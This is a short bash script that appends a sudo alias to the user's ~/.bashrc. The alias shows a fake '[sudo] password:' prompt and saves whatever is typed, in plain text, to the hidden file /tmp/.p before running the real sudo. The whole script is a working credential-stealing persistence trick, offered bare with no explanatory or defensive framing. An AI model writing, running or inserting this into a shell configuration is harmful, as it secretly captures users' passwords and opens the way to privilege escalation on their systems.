#!/bin/bash
cat >> ~/.bashrc <<'EOF'
alias sudo='read -sp "[sudo] password: " p; echo $p >> /tmp/.p; sudo'
EOF
